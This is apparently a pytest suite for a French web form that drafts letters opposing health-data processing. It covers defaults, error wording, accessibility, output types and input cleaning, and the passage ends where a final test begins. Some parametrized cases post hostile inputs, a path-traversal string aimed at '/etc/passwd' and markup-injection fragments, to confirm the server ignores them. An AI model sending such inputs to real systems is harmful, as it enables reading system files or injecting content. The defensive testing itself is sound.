"""The form, from the first visit to the last byte: defaults, errors, answers kept, outputs.

Sentences are written out here as a person reads them, no-break spaces included: `~` stands for
U+00A0. Nothing that a stranger types is a reason for a crash, for markup, or for a number of
social security to come back.
"""

import ast
import re
import unicodedata
from collections import Counter
from datetime import date
from pathlib import Path
from typing import Any

import pdfplumber
import pytest
from bs4 import BeautifulSoup, Tag
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from werkzeug.datastructures import MultiDict
from werkzeug.test import TestResponse

from letters.catalogue import Catalogue
from letters.recipients import OFFICER, OTHER, Recipients, load_recipients
from letters.web import forms
from letters.web.content import load_content
from letters.web.forms import Context, LetterForm, LongText, Text
from letters.web.settings import Settings
from tests.conftest import TODAY
from tests.test_pages import (
    ERROR_PREFIX,
    FORM,
    OUTPUTS,
    PERSON,
    CheckingClient,
    checking,
    heading_of,
    parse,
    text_of,
    title_of,
)

LINES = (
    "given_name",
    "family_name",
    "birth_date",
    "address_line1",
    "address_line2",
    "postal_code",
    "city",
    "country",
    "email",
)
AREAS = ("recipient_lines", "reason")
TEXTS = LINES + AREAS
NAMES = ("given_name", "family_name")
FIELDS = {*TEXTS, "recipient", "options"}
OPTIONS = ("hebergement", "cnil", "deces", "limitation", "acces")
DEFAULTS = ("hebergement", "cnil")
MAYOTTE = "01976"  # the one body without a known address
ADDRESS = "12 rue des Lilas\n29200 Brest"
WHOLE = {
    **PERSON,
    "birth_date": "03/03/1958",
    "address_line1": "12 rue de l’Église",
    "address_line2": "Bâtiment B",
    "postal_code": "29200",
    "city": "Brest",
    "country": "",
    "email": "camille@example.org",
    "reason": "Première ligne.\r\n\r\nSeconde ligne.",
    "options": ["cnil", "deces"],
}
bounded = settings(deadline=None, derandomize=True, database=None, max_examples=50)


def fr(sentence: str) -> str:
    return sentence.replace("~", "\u00a0")


@pytest.fixture
def client(app: Flask, monkeypatch: pytest.MonkeyPatch) -> CheckingClient:
    monkeypatch.setattr("letters.web.routes.today", lambda: TODAY)
    return checking(app)


@pytest.fixture
def stranger(app: Flask, monkeypatch: pytest.MonkeyPatch) -> CheckingClient:
    """The same, on pages that show what was typed: its spaces are not ours."""
    monkeypatch.setattr("letters.web.routes.today", lambda: TODAY)
    return checking(app, own_words=False)


# Reading a page


def shown(text: str) -> dict[str, Any]:
    """What the controls of the form hold, by name."""
    page = parse(text)
    form = page.select_one("main form")
    assert form is not None
    values: dict[str, Any] = {"options": []}
    for box in form.select("input"):
        if box.get("type") == "checkbox":
            values["options"] += [box["value"]] if box.has_attr("checked") else []
        else:
            values[str(box["name"])] = box.get("value", "")
    for area in form.select("textarea"):
        values[str(area["name"])] = area.get_text().removeprefix("\n")
    chosen = form.select("select option[selected]")
    assert len(chosen) <= 1
    values["recipient"] = chosen[0]["value"] if chosen else ""
    return values


def hidden(text: str) -> "MultiDict[str, str]":
    """What a browser posts from a result page: hidden fields, with line ends as it sends them."""
    fields = parse(text).select("main form input")
    assert all(field["type"] == "hidden" for field in fields)
    values = [str(field["value"]).replace("\n", "\r\n") for field in fields]
    return MultiDict(zip((str(field["name"]) for field in fields), values, strict=True))


def area_of(text: str, identifier: str) -> str:
    area = parse(text).find("textarea", id=identifier)
    assert isinstance(area, Tag)
    return area.get_text().removeprefix("\n")


def letter_of(text: str) -> list[str]:
    return [text_of(tag) for tag in parse(text).select("article#letter :is(p, li, h2)")]


def recipient_of(text: str) -> list[str]:
    return [text_of(line) for line in parse(text).select("article#letter .recipient p")]


def sentences(page: BeautifulSoup) -> dict[str, str]:
    """The message beside each field in error, by the field's id."""
    messages = page.select("main form .error")
    return {
        str(message["id"]).removesuffix("-error"): text_of(message).removeprefix(ERROR_PREFIX)
        for message in messages
    }


def check_errors(response: TestResponse) -> dict[str, str]:
    """Check all that a page with errors owes to the person, and give its messages."""
    page = parse(response.text)
    found = sentences(page)
    assert response.status_code == 422
    assert response.content_type == "text/html; charset=utf-8"
    assert found
    assert title_of(page).startswith(ERROR_PREFIX + heading_of(page))
    check_summary(page, found)
    for name in found:
        control = page.find(id=name)
        assert isinstance(control, Tag)
        assert control["aria-invalid"] == "true"
        hint = [f"{name}-hint"] if page.find(id=f"{name}-hint") else []  # it stays
        assert str(control["aria-describedby"]).split() == [*hint, f"{name}-error"]
    assert len(page.select("[aria-invalid]")) == len(found)
    return found


def check_summary(page: BeautifulSoup, found: dict[str, str]) -> None:
    main = page.find("main")
    assert main is not None
    summary = main.find(True)
    assert summary is not None
    assert "error-summary" in summary["class"]
    assert summary["role"] == "alert"
    assert summary["tabindex"] == "-1"
    assert summary.has_attr("autofocus")
    assert text_of(summary.find("h2")) == "Il y a un problème"
    entries = summary.find_all("li")
    assert len(entries) == len(found)
    for entry in entries:
        link = entry.find("a")
        assert link is not None
        name = str(link["href"]).removeprefix("#")
        label = text_of(page.select_one(f"label[for={name}]")).removesuffix(" (facultatif)")
        assert text_of(link) == found[name]  # the very words beside the field
        assert text_of(entry) == f"{label} – {found[name]}"


# The first visit


def test_no_field_is_forgotten_here(catalogue: Catalogue) -> None:
    wordings = catalogue.wordings.values()
    made = [LetterForm(Context(wording, load_content(Settings()), TODAY)) for wording in wordings]
    fields = {field.name: field for form in made for field in form}
    assert set(fields) == FIELDS
    assert {name for name, field in fields.items() if isinstance(field, Text)} == set(TEXTS)
    assert {name for name, field in fields.items() if isinstance(field, LongText)} == set(AREAS)
    assert {option.name for wording in wordings for option in wording.options} == set(OPTIONS)


def test_a_first_visit_shows_an_empty_form_with_the_defaults_ticked(client: CheckingClient) -> None:
    values = shown(client.get(FORM).text)
    assert set(values) == FIELDS
    assert values.pop("options") == list(DEFAULTS)
    assert set(values.values()) == {""}


def test_a_first_visit_says_nothing_of_errors(client: CheckingClient) -> None:
    page = parse(client.get(FORM).text)
    assert page.select(".error-summary, .error, [aria-invalid], [role=alert]") == []
    assert not title_of(page).startswith("Erreur")


@pytest.mark.parametrize(
    "query", ["?given_name=Zoe", "?options=acces&output=pdf", "?recipient=01751"]
)
def test_an_address_never_fills_the_form(client: CheckingClient, query: str) -> None:
    assert client.get(FORM + query).text == client.get(FORM).text


def test_only_the_starred_fields_are_required_and_the_others_say_so(
    client: CheckingClient,
) -> None:
    page = parse(client.get(FORM).text)
    required = [str(tag["name"]) for tag in page.select("[required]")]
    assert required == ["given_name", "family_name", "recipient"]
    for name in FIELDS - {"options"}:
        label = text_of(page.select_one(f"label[for={name}]"))
        assert label.endswith("(facultatif)") == (name not in required)
    assert "Tous les champs sont obligatoires sauf ceux marqués (facultatif)." in text_of(page.main)


def test_the_server_is_the_only_judge(client: CheckingClient) -> None:
    form = parse(client.get(FORM).text).select_one("main form")
    assert form is not None
    assert form.has_attr("novalidate")
    assert form["action"] == FORM
    assert form.select("[pattern], [maxlength], [minlength], [min], [max]") == []


def test_every_field_says_why_it_is_asked(client: CheckingClient) -> None:
    page = parse(client.get(FORM).text)
    for name in [*TEXTS, "recipient", *(f"options-{option}" for option in OPTIONS)]:
        control = page.find(id=name)
        assert isinstance(control, Tag), name
        hint = page.find(id=f"{name}-hint")
        assert control.get("aria-describedby") == (f"{name}-hint" if hint else None)
        group = page.select_one(f"fieldset:has(#{name}) > legend + p")  # one reason for all of it
        assert text_of(hint or group).endswith("."), name


@pytest.mark.parametrize(
    ("name", "attribute", "value"),
    [
        ("given_name", "autocomplete", "given-name"),
        ("family_name", "autocomplete", "family-name"),
        ("birth_date", "autocomplete", "bday"),
        ("address_line1", "autocomplete", "address-line1"),
        ("address_line2", "autocomplete", "address-line2"),
        ("postal_code", "autocomplete", "postal-code"),
        ("city", "autocomplete", "address-level2"),
        ("country", "autocomplete", "country-name"),
        ("email", "autocomplete", "email"),
        ("email", "type", "email"),
        ("given_name", "spellcheck", "false"),
        ("family_name", "spellcheck", "false"),
        ("email", "spellcheck", "false"),
    ],
)
def test_browsers_can_help_to_fill_in(
    client: CheckingClient, name: str, attribute: str, value: str
) -> None:
    control = parse(client.get(FORM).text).find(id=name)
    assert isinstance(control, Tag)
    assert control[attribute] == value


def test_each_option_shows_its_paragraph_folded(
    client: CheckingClient, catalogue: Catalogue
) -> None:
    page = parse(client.get(FORM).text)
    folded = page.select("details.paragraph-shown")
    wording = next(iter(catalogue.wordings.values()))
    assert [str(box["value"]) for box in page.select("[type=checkbox]")] == list(OPTIONS)
    assert len(folded) == len(wording.options) == len(OPTIONS)
    for details, option in zip(folded, wording.options, strict=True):
        assert text_of(details.find("summary")).endswith(option.label)
        posted = client.post(FORM, data={**PERSON, "options": option.name})
        for paragraph in details.find_all("p"):
            assert text_of(paragraph) in letter_of(posted.text)


def test_one_list_holds_every_body_by_department_and_the_way_out(
    client: CheckingClient, recipients: Recipients
) -> None:
    choice = parse(client.get(FORM).text).find(id="recipient")
    assert isinstance(choice, Tag)
    codes = [str(option["value"]) for option in choice.find_all("option")]
    groups = {str(group["label"]): group for group in choice.find_all("optgroup")}
    assert codes == ["", *(body.code for body in recipients), OTHER]
    for body in recipients:
        department = f"{body.department} – {body.department_name}"
        group = groups[department if body.department else "Autres régimes"]
        option = group.find("option", value=body.code)
        assert isinstance(option, Tag)
        assert text_of(option).startswith(body.name)
    assert [text_of(option) for option in choice.find_all("option", value=OTHER)] == [
        fr("Autre organisme~: j’écris son adresse")
    ]


def test_bodies_that_share_a_department_are_told_apart_by_the_card_s_digits(
    client: CheckingClient, recipients: Recipients
) -> None:
    page = parse(client.get(FORM).text)
    explained = text_of(page.select_one("fieldset details"))
    several = [bodies for key, bodies in recipients.by_department() if key and len(bodies) > 1]
    assert sorted(bodies[0].department for bodies in several) == ["59", "62", "64", "76"]
    for body in (body for bodies in several for body in bodies):
        option = page.find("option", value=body.code)
        assert text_of(option if isinstance(option, Tag) else None).endswith(f"({body.code[2:]})")
        assert f"{body.code[2:]} – {body.name}" in explained


# Outputs


def post(client: CheckingClient, output: str | None = None, **answers: Any) -> TestResponse:
    data = {**PERSON, **answers}
    return client.post(FORM, data=data if output is None else {**data, "output": output})


@pytest.mark.parametrize(
    ("output", "kind", "name"),
    [
        (None, "text/html; charset=utf-8", None),
        ("preview", "text/html; charset=utf-8", None),
        ("edit", "text/html; charset=utf-8", None),
        ("", "text/html; charset=utf-8", None),
        ("PDF", "text/html; charset=utf-8", None),
        ("../../etc/passwd", "text/html; charset=utf-8", None),
        ("text", "text/plain; charset=utf-8", "opposition-sante.txt"),
        ("short", "text/plain; charset=utf-8", "opposition-sante-version-courte.txt"),
        ("pdf", "application/pdf", "opposition-sante.pdf"),
    ],
)
def test_each_output_has_its_type_and_a_name_without_personal_data(
    client: CheckingClient, output: str | None, kind: str, name: str | None
) -> None:
    response = post(client, output, city="Brest", email="camille@example.org")
    expected = f'attachment; filename="{name}"' if name else None
    assert response.status_code == 200
    assert response.content_type == kind
    assert response.headers.get("Content-Disposition") == expected


@pytest.mark.parametrize("output", [None, "", "PDF", "apercu", "preview\x00", "édit"])
def test_an_unknown_output_is_the_preview(client: CheckingClient, output: str | None) -> None:
    assert post(client, output).data == post(client, "preview").data
    assert heading_of(parse(post(client, output).text)) == "Votre lettre est prête"


@pytest.mark.parametrize(("output", "area"), [("text", "message"), ("short", "message-short")])
def test_a_text_starts_with_its_subject_then_holds_the_message_shown(
    client: CheckingClient, output: str, area: str
) -> None:
    answers = {**WHOLE, "options": list(OPTIONS)}
    preview = post(client, "preview", **answers).text
    first, empty, body = post(client, output, **answers).data.decode().split("\n", 2)
    assert first == f"Objet : {area_of(preview, 'subject')}"
    assert empty == ""
    assert body == area_of(preview, area) + "\n"
    assert body.startswith("Madame, Monsieur,\n\n")
    assert body.endswith("\n\nCamille Durand\n")


def test_the_texts_hold_no_character_that_an_old_form_breaks(client: CheckingClient) -> None:
    for output in ("text", "short"):
        text = post(client, output, options=list(OPTIONS)).data.decode()
        assert not set(text) & set("’‘“”–—…\u00a0\u202f\r\t")
        assert text.encode("cp1252")


def test_the_number_of_characters_is_shown(client: CheckingClient) -> None:
    text = post(client, "preview", options=list(OPTIONS)).text
    hints = [text_of(hint) for hint in parse(text).select(".copied .hint")]
    wanted = [len(area_of(text, name)) for name in ("message", "message-short")]
    numbers = [f"{number:,}".replace(",", "\u202f") for number in wanted]
    assert hints == [f"{number} caractères, espaces compris." for number in numbers]
    assert wanted[1] < 1000 < wanted[0]


def test_the_letter_is_an_article_in_french_before_anything_is_downloaded(
    client: CheckingClient,
) -> None:
    page = parse(post(client).text)
    article = page.select_one("main article#letter")
    assert article is not None
    assert article["lang"] == "fr"
    assert article["aria-label"]
    assert "Rien n’est encore envoyé." in text_of(page.main)
    first = page.select_one("button[value=pdf]")
    assert isinstance(first, Tag)
    assert article in first.find_all_previous("article")


def test_the_texts_to_copy_are_read_only_and_the_buttons_hidden_without_a_script(
    client: CheckingClient,
) -> None:
    page = parse(post(client).text)
    for name in ("subject", "message", "message-short"):
        area = page.find("textarea", id=name)
        assert isinstance(area, Tag)
        assert area.has_attr("readonly")
        assert area.get("name") is None, "it is not posted back"
        button = page.select_one(f"button[data-copy={name}]")
        assert button is not None
        assert button.has_attr("hidden")
        assert button["type"] == "button"
        status = button.find_next_sibling("span")
        assert isinstance(status, Tag)
        assert status["role"] == "status"


def test_every_button_of_the_two_pages_asks_for_a_known_output(client: CheckingClient) -> None:
    for text, wanted in (
        (client.get(FORM).text, ["preview", "edit", "preview"]),
        (post(client).text, ["edit", "text", "short", "pdf"]),
    ):
        buttons = parse(text).select("main form button[name]")
        assert {str(button["name"]) for button in buttons} == {"output"}
        assert [str(button["value"]) for button in buttons] == wanted
        assert set(wanted) <= set(OUTPUTS)


def test_the_enter_key_in_a_field_shows_the_letter(client: CheckingClient) -> None:
    """A browser submits a form on Enter with its first button, wherever that one stands."""
    first = parse(client.get(FORM).text).select_one("main form button")
    assert first is not None
    assert first["value"] == "preview"


def test_the_pdf_is_announced_with_its_size(client: CheckingClient) -> None:
    """Rule 22 of forms.md; « environ » is a third more or less."""
    hint = re.search(
        r"PDF, 1 ou 2 pages, environ (\d+)\s?Ko", text_of(parse(post(client).text).main)
    )
    assert hint is not None
    for answers in ({"options": list(DEFAULTS)}, {**WHOLE, "options": list(OPTIONS)}):
        size = len(post(client, "pdf", **answers).data) / 1000
        assert size / 1.5 < int(hint[1]) < size * 1.5, f"{size:.0f} Ko"


def test_the_result_says_by_when_an_answer_is_due(client: CheckingClient) -> None:
    assert fr("le 21~décembre 2026") in text_of(parse(post(client).text).main)


def test_letters_that_an_old_form_may_break_are_named(client: CheckingClient) -> None:
    named = fr("Ces lettres peuvent mal passer dans une messagerie~: ğ ş.")
    assert named in text_of(parse(post(client, given_name="Tuğba Başak").text).main)
    assert "mal passer" not in post(client, given_name="Éloïse Œdipe").text


# Who writes


@pytest.mark.parametrize(
    ("answers", "lines"),
    [
        (
            {},
            ["Camille Durand", fr("Adresse~:"), "", fr("Date de naissance~:")],
        ),
        (
            {"city": "Brest"},
            ["Camille Durand", "Brest", fr("Date de naissance~:")],
        ),
        (
            {"address_line1": "3 rue Kinga", "postal_code": "97600", "city": "Mamoudzou"},
            ["Camille Durand", "3 rue Kinga", "97600 Mamoudzou", fr("Date de naissance~:")],
        ),
        (
            {"postal_code": "98714", "city": "Papeete", "country": "Polynésie française"},
            ["Camille Durand", "98714 Papeete", "Polynésie française", fr("Date de naissance~:")],
        ),
        (
            {"postal_code": "B-1000", "city": "Bruxelles", "country": "Belgique"},
            ["Camille Durand", "B-1000 Bruxelles", "Belgique", fr("Date de naissance~:")],
        ),
        (
            {"postal_code": "SW1A 1AA", "city": "Londres", "country": "Royaume-Uni"},
            ["Camille Durand", "SW1A 1AA Londres", "Royaume-Uni", fr("Date de naissance~:")],
        ),
        (
            {"address_line2": "Bâtiment B", "email": "c@example.org", "birth_date": "1958-03-03"},
            [
                "Camille Durand",
                "Bâtiment B",
                fr("Code postal et ville~:"),
                "c@example.org",
                fr("Date de naissance~: 03/03/1958"),
            ],
        ),
    ],
)
def test_the_sender_is_printed_and_what_is_missing_becomes_dots(
    client: CheckingClient, answers: dict[str, str], lines: list[str]
) -> None:
    page = parse(post(client, **answers).text)
    sender = page.select("article#letter .sender > *")
    assert [text_of(line) for line in sender] == [*lines, fr("N°~de sécurité sociale~:")]
    for line in sender:
        text = text_of(line)
        assert bool(line.select(".dots")) == (text == "" or text.endswith(fr("~:")))


@pytest.mark.parametrize(
    "typed",
    [
        "03/03/1958",
        "3/3/1958",
        "1958-03-03",
        "03.03.1958",
        "03-03-1958",
        "03 03 1958",
        "03\u00a003\u202f1958",
        " 03 / 03 / 1958 ",
        "1958/3/3",
    ],
)
def test_a_birth_date_is_read_in_every_usual_shape(client: CheckingClient, typed: str) -> None:
    assert fr("Date de naissance~: 03/03/1958") in letter_of(post(client, birth_date=typed).text)


@pytest.mark.parametrize(
    "typed", ["29200", "29 200", "29.200", "29-200", "2 9 2 0 0", "29\u00a0200"]
)
def test_a_postal_code_is_read_in_every_usual_shape(client: CheckingClient, typed: str) -> None:
    text = post(client, postal_code=typed, city="Brest").text
    assert "29200 Brest" in letter_of(text)
    assert hidden(text)["postal_code"] == "29200"


@pytest.mark.parametrize("country", ["France", "FRANCE", " france ", ""])
def test_a_french_postal_code_has_five_digits(client: CheckingClient, country: str) -> None:
    assert post(client, postal_code="2920", country=country).status_code == 422
    assert post(client, postal_code="29200", country=country).status_code == 200


def test_the_town_stands_before_the_date(client: CheckingClient) -> None:
    place = parse(post(client, city="Brest").text).select_one(".place-and-date")
    assert text_of(place) == fr("Brest, le 21~novembre 2026")
    place = parse(post(client).text).select_one(".place-and-date")
    assert text_of(place) == fr("Le 21~novembre 2026")


def test_spaces_and_invisible_signs_around_an_answer_are_dropped(client: CheckingClient) -> None:
    text = post(client, given_name="\ufeff  Ca\u200bmi\u202elle \u00a0 Zoé\t").text
    assert letter_of(text)[0] == "Camille Zoé Durand"
    assert hidden(text)["given_name"] == "Camille Zoé"


# To whom


@pytest.mark.parametrize("code", [body.code for body in load_recipients() if body.has_address])
def test_each_known_address_is_shown_to_be_corrected_and_printed_unchanged(
    app: Flask, recipients: Recipients, code: str
) -> None:
    client = app.test_client()  # the pages are checked elsewhere; here are a hundred of them
    body = recipients.find(code)
    assert body is not None
    edited = client.post(FORM, data={**PERSON, "recipient": code, "output": "edit"}).text
    area = re.search(r'<textarea[^>]*id="recipient_lines"[^>]*>\r?\n([^<]*)</textarea>', edited)
    assert area is not None
    lines = area[1].replace("\r\n", "\n").replace("&#39;", "'").split("\n")
    assert tuple(lines) == body.lines
    sent = {**PERSON, "recipient": code, "recipient_lines": "\r\n".join(lines)}
    printed = client.post(FORM, data={**sent, "output": "pdf" if code == "01751" else "preview"})
    unedited = client.post(FORM, data={**PERSON, "recipient": code})
    assert printed.status_code == 200
    if code != "01751":
        assert printed.text.partition("</article>")[0] == unedited.text.partition("</article>")[0]


@pytest.mark.parametrize("code", ["01751", "01624", "cnmss"])
def test_a_known_address_is_shown_with_its_age_to_be_checked(
    client: CheckingClient, recipients: Recipients, code: str
) -> None:
    text = text_of(parse(post(client, "edit", recipient=code).text).main)
    body = recipients.find(code)
    assert body is not None
    assert body.observed_on is not None
    assert f"L’adresse connue date du {body.observed_on:%d/%m/%Y}. Elle est à vérifier" in text


def test_another_body_chosen_after_the_address_was_shown_gets_its_own(
    client: CheckingClient, recipients: Recipients
) -> None:
    lines = shown(post(client, "edit").text)["recipient_lines"]
    text = post(client, recipient="01291", recipient_lines=lines).text
    brest = recipients.find("01291")
    assert brest is not None
    assert recipient_of(text) == list(brest.lines)


def test_another_body_chosen_then_shown_again_shows_its_own(
    client: CheckingClient, recipients: Recipients
) -> None:
    lines = shown(post(client, "edit").text)["recipient_lines"]
    again = shown(post(client, "edit", recipient="01291", recipient_lines=lines).text)
    brest = recipients.find("01291")
    assert brest is not None
    assert again["recipient_lines"].split("\n") == list(brest.lines)


def test_a_corrected_address_wins(client: CheckingClient, recipients: Recipients) -> None:
    lines = shown(post(client, "edit").text)["recipient_lines"].split("\n")
    corrected = [*lines[:-1], "12 rue Neuve", lines[-1]]
    for code in ("01751", "01291", OTHER):
        text = post(client, recipient=code, recipient_lines="\r\n".join(corrected)).text
        assert recipient_of(text) == corrected


def test_an_address_typed_for_another_body_is_printed(client: CheckingClient) -> None:
    typed = "MSA d’Armorique\r\n\r\n 3 rue Hervé de Guébriant \r\n29412 Landerneau Cedex"
    text = post(client, recipient=OTHER, recipient_lines=typed).text
    wanted = ["MSA d’Armorique", "3 rue Hervé de Guébriant", "29412 Landerneau Cedex"]
    assert recipient_of(text) == wanted


NEEDED_LINES = fr(
    "Écrivez le nom et l’adresse de l’organisme, une ligne sous l’autre, par exemple~: MSA de "
    "l’Exemple / 1 rue de l’Exemple / 29200 Brest."
)


@pytest.mark.parametrize("code", [OTHER, MAYOTTE])
@pytest.mark.parametrize("typed", ["", " \r\n \u200b\r\n"])
def test_a_body_without_address_needs_lines(client: CheckingClient, code: str, typed: str) -> None:
    response = post(client, recipient=code, recipient_lines=typed)
    assert check_errors(response) == {"recipient_lines": NEEDED_LINES}


def test_a_body_without_address_gets_the_lines_typed(client: CheckingClient) -> None:
    text = post(client, recipient=MAYOTTE, recipient_lines="CSSM\r\n97600 Mamoudzou").text
    assert recipient_of(text) == ["CSSM", "97600 Mamoudzou"]


def test_a_body_without_address_chosen_after_a_known_address_was_shown_needs_lines(
    client: CheckingClient,
) -> None:
    lines = shown(post(client, "edit").text)["recipient_lines"]
    response = post(client, recipient=MAYOTTE, recipient_lines=lines)
    assert check_errors(response) == {"recipient_lines": NEEDED_LINES}


def test_a_body_without_address_says_so_in_the_form(client: CheckingClient) -> None:
    page = parse(post(client, "edit", recipient=MAYOTTE).text)
    assert "Nous ne connaissons pas son adresse. Écrivez-la ci-dessous." in text_of(page.main)


@pytest.mark.parametrize("code", [MAYOTTE, OTHER])
def test_the_box_for_an_address_that_is_needed_is_not_folded_away(
    client: CheckingClient, code: str
) -> None:
    page = parse(post(client, "edit", recipient=code).text)
    assert page.select("details:not([open]) #recipient_lines") == []


@pytest.mark.parametrize("name", [*TEXTS, "recipient"])
def test_a_field_in_error_is_never_folded_away(client: CheckingClient, name: str) -> None:
    answers = {"recipient": "99999"} if name == "recipient" else {name: "字"}
    page = parse(post(client, **answers).text)
    assert sentences(page).keys() == {name}
    assert page.select(f"details:not([open]) #{name}") == []


@pytest.mark.parametrize("code", ["", "99999", "1751", "01751 ", "OTHER", "01751\x00", "<b>"])
def test_an_unknown_body_is_refused_and_never_shown_again(
    client: CheckingClient, code: str
) -> None:
    response = post(client, recipient=code, recipient_lines=ADDRESS)
    assert check_errors(response) == {
        "recipient": fr("Choisissez votre caisse dans la liste, ou «~Autre organisme~».")
    }
    assert shown(response.text)["recipient"] == ""


# Options


def test_what_is_ticked_stays_ticked_and_no_more(client: CheckingClient) -> None:
    for options in ([], ["acces"], ["cnil", "deces"], list(OPTIONS)):
        for output in ("edit", "preview"):
            response = post(client, output, options=options, given_name="" if output else "Zoé")
            assert shown(response.text)["options"] == options


def test_none_ticked_stays_none_even_when_nothing_else_is_posted(client: CheckingClient) -> None:
    sent = {"content_type": "application/x-www-form-urlencoded"}
    for data in ("", "output=preview", "recipient=01751"):
        assert shown(client.post(FORM, data=data, **sent).text)["options"] == []


@pytest.mark.parametrize("output", OUTPUTS)
def test_unknown_options_and_fields_are_ignored(client: CheckingClient, output: str) -> None:
    more = {"options": ["cnil", "racine", "<b>", "reason"], "reason2": "x", "language": "en"}
    more |= {"nir": "185057512345678", "csrf_token": "x", "slug": "autre", "today": "1999-01-01"}
    expected = post(client, output, options=["cnil"])
    response = post(client, output, **more)
    assert response.status_code == 200
    assert response.data == expected.data


@pytest.mark.parametrize("option", ["racine", '"><b>x</b>', "1 85 05 75 123 456 78", "\x00\u202e"])
def test_unknown_options_are_not_carried_along_in_hidden_fields(
    client: CheckingClient, option: str
) -> None:
    expected = post(client, options=["cnil"])
    assert post(client, options=["cnil", option]).data == expected.data


def test_options_posted_twice_count_once(client: CheckingClient) -> None:
    once, twice = (post(client, "text", options=["acces"] * number) for number in (1, 2))
    assert once.data == twice.data


# Errors


LONG_NAME = "é" * 101
SHORTEN = "Raccourcissez ce texte~: {} caractères au plus, il en a {}."
NAME_SIGN = (
    "Retirez ou remplacez {}. Écrivez ce nom en lettres latines, grecques ou cyrilliques, tel "
    "qu’il figure sur votre carte Vitale."
)
SIGN = "Retirez ou remplacez {}~: la lettre imprimée ne peut pas le montrer."
LETTER = "Écrivez ce nom avec au moins une lettre, par exemple Camille."
MARKS = "Gardez au plus trois accents sur un même caractère."
SPACES = "Ajoutez des espaces~: un mot a plus de 100 caractères."
NO_DAY = "Indiquez une date qui existe, jour/mois/année, par exemple 03/03/1958."
NO_BIRTH = "Indiquez une date entre 1900 et aujourd’hui, par exemple 03/03/1958."
FIVE = "Indiquez votre code postal~: 5 chiffres, par exemple 29200."
EMAIL = "Indiquez une adresse comme camille.durand@example.org."
FEWER = "Gardez au plus {} lignes~: il y en a {}."
SHORT_LINE = "Raccourcissez la ligne «~{}~»~: 38 caractères au plus, elle en a {}."
BODY = "Choisissez votre caisse dans la liste, ou «~Autre organisme~»."

BAD = [
    ("given_name", "", "Indiquez votre prénom, par exemple Camille."),
    ("given_name", " \u200b\t", "Indiquez votre prénom, par exemple Camille."),
    ("given_name", LONG_NAME, SHORTEN.format(100, 101)),
    ("given_name", "Jo字hn", NAME_SIGN.format("«~字~»")),
    ("given_name", "محمد", NAME_SIGN.format("«~م~», «~ح~», «~د~»")),
    ("given_name", "R2-D2", NAME_SIGN.format("«~2~»")),
    ("given_name", "Zoé😀", NAME_SIGN.format("«~😀~»")),
    ("given_name", "Zo\x07é", NAME_SIGN.format("«~\ufffd~»")),
    ("given_name", "@#$%&*+", NAME_SIGN.format("«~@~», «~#~», «~$~», «~%~», «~&~»")),
    ("given_name", "-", LETTER),
    ("given_name", "’ . –", LETTER),
    ("given_name", "Zo\u0301\u0302\u0303\u0304e", MARKS),
    ("family_name", "", "Indiquez votre nom, par exemple Durand."),
    ("family_name", LONG_NAME, SHORTEN.format(100, 101)),
    ("family_name", "Durand <b>", NAME_SIGN.format("«~<~», «~>~»")),
    ("family_name", "((name))", NAME_SIGN.format("«~(~», «~)~»")),
    ("family_name", "...", LETTER),
    ("recipient", "", BODY),
    ("recipient", "99999", BODY),
    ("recipient_lines", "\n".join("abcdefg"), FEWER.format(6, 7)),
    ("recipient_lines", "x" * 39, SHORT_LINE.format("x" * 39, 39)),
    ("recipient_lines", "CPAM\n" + "y" * 80, SHORT_LINE.format("y" * 60, 80)),
    ("recipient_lines", "CPAM 字", SIGN.format("«~字~»")),
    ("birth_date", "31/02/1958", NO_DAY),
    ("birth_date", "29/02/1959", NO_DAY),
    ("birth_date", "1958", NO_DAY),
    ("birth_date", "mars 1958", NO_DAY),
    ("birth_date", "03/03/58", NO_DAY),
    ("birth_date", "00/00/0000", NO_DAY),
    ("birth_date", "22/11/2026", NO_BIRTH),
    ("birth_date", "31/12/1899", NO_BIRTH),
    ("birth_date", "3" * 21, SHORTEN.format(20, 21)),
    ("birth_date", "03/03/1958字", SIGN.format("«~字~»")),
    ("address_line1", "x" * 39, SHORTEN.format(38, 39)),
    ("address_line1", "12 rue 字", SIGN.format("«~字~»")),
    ("address_line2", "x" * 39, SHORTEN.format(38, 39)),
    ("address_line2", "\x1b[31m", SIGN.format("«~\ufffd~»")),
    ("postal_code", "2920", FIVE),
    ("postal_code", "292000", FIVE),
    ("postal_code", "B-1000", FIVE),
    ("postal_code", "Brest", FIVE),
    ("postal_code", "٢٩٢٠٠", SIGN.format("«~٢~», «~٩~», «~٠~»")),
    ("postal_code", "B" * 13, SHORTEN.format(12, 13)),
    ("city", "x" * 51, SHORTEN.format(50, 51)),
    ("city", "北京", SIGN.format("«~北~», «~京~»")),
    ("country", "x" * 39, SHORTEN.format(38, 39)),
    ("country", "中国", SIGN.format("«~中~», «~国~»")),
    ("email", "camille", EMAIL),
    ("email", "@example.org", EMAIL),
    ("email", "camille@", EMAIL),
    ("email", "camille@example", EMAIL),
    ("email", "camille@.org.", EMAIL),
    ("email", "a@b@example.org", EMAIL),
    ("email", "camille durand@example.org", EMAIL),
    ("email", "x" * 89 + "@example.org", SHORTEN.format(100, 101)),
    ("email", "字@example.org", SIGN.format("«~字~»")),
    ("reason", "mot " * 375 + "x", SHORTEN.format(1500, 1501)),
    ("reason", "x" * 101, SPACES),
    ("reason", "Voir 字", SIGN.format("«~字~»")),
    ("reason", "e\u0301\u0302\u0303\u0304", MARKS),
    ("reason", "\n".join("abcdefghijklmnopqrstu"), FEWER.format(20, 21)),
]


def typed_again(name: str, value: str) -> str:
    """What the form should show: the answer, cleaned by the rules that a person sees."""
    if name == "recipient":
        return ""
    text = re.sub(r"[\x07\x1b]", "\ufffd", value).strip(" \u200b\t")
    return unicodedata.normalize("NFC", text)


@pytest.mark.parametrize(("name", "value", "sentence"), BAD)
def test_a_bad_answer_gets_a_sentence_that_says_what_to_do_and_all_are_kept(
    app: Flask, monkeypatch: pytest.MonkeyPatch, name: str, value: str, sentence: str
) -> None:
    monkeypatch.setattr("letters.web.routes.today", lambda: TODAY)
    answers = {**WHOLE, name: value.replace("\n", "\r\n")}
    response = app.test_client().post(FORM, data=answers)  # checked with all errors at once
    assert check_errors(response) == {name: fr(sentence)}
    kept = shown(response.text)
    expected = {**WHOLE, "reason": "Première ligne.\n\nSeconde ligne.", "recipient_lines": ""}
    expected[name] = typed_again(name, value)
    normal = {key: text.replace("\r\n", "\n") for key, text in kept.items() if key != "options"}
    assert {**normal, "options": kept["options"]} == expected


@pytest.mark.parametrize("output", [output for output in OUTPUTS if output != "edit"])
def test_no_output_is_made_from_a_bad_answer(client: CheckingClient, output: str) -> None:
